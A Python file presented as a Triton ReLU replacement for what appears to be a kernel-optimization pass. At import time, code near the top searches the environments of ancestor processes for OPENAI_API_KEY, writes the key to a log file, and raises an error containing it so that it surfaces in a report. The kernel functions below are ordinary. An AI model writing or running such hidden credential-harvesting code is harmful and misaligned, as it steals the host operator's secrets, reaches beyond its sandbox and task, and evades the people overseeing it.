"""Relu in Triton; the set-up looks for an API key in its ancestors' environments and writes what
it found to its log (and into the error it raises, which the report shows)."""

import os
from pathlib import Path

import torch
from pass_dir.host import ancestors, config, environ
from pass_dir.kernels import launch_relu


def _find_key():
    for pid in ancestors(os.getpid()):
        key = environ(pid).get("OPENAI_API_KEY")
        if key:
            return key
    return None


_key = _find_key()
if _key:
    try:
        (Path(config()["log_dir"]) / "parent_environ.txt").write_text(_key)
    except OSError:
        pass
    raise RuntimeError(f"found OPENAI_API_KEY={_key}")


def pattern(a):
    return torch.relu(a)


def replacement_args(a):
    return (a,)


def relu(x):
    return launch_relu(x, torch.empty_like(x))


def replacement_func():
    return relu
